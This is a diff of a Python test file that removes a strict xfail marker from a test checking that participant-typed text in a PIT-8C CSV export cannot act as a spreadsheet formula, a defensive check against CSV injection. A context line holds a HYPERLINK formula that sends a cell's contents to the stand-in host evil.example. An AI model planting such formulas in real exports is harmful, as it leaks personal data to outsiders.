@@ -215,9 +215,6 @@ def test_api_filters_and_cursors_refuse_garbage_with_a_problem_not_500(app, clie
 FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 
 
-@pytest.mark.xfail(strict=True, reason="bug: GET /t/<slug>/pit8c.csv writes participant-typed text (home address, "
-                                       "names) into the CSV as is: a cell starting with = is a live spreadsheet "
-                                       "formula when staff open the file (CSV injection)")
 def test_participant_text_in_the_pit8c_csv_is_not_a_spreadsheet_formula(app, tmp_path):
     from portal.loyalty.models import Installer, RewardOrder
     from portal.tenancy.guard import use_tenant
